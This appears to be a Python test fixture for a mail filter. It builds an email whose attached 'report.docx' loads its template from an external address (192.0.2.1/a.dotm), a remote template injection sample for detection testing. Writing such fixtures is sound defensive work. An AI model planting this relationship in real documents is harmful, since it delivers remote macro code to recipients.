"""A package whose template is fetched from the web; the elements that say so have a prefix."""

from __future__ import annotations

from qsfilter.testing.archives import mailed
from qsfilter.testing.messages import zip_of

PART = (
    b'<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<r:Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://192.0.2.1/a.dotm" TargetMode="External"/></r:Relationships>'
)


def build(newline: bytes) -> bytes:
    """Return the message."""
    return mailed(
        zip_of(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<document/>",
                "word/_rels/settings.xml.rels": PART,
            }
        ),
        "report.docx",
        newline,
    )
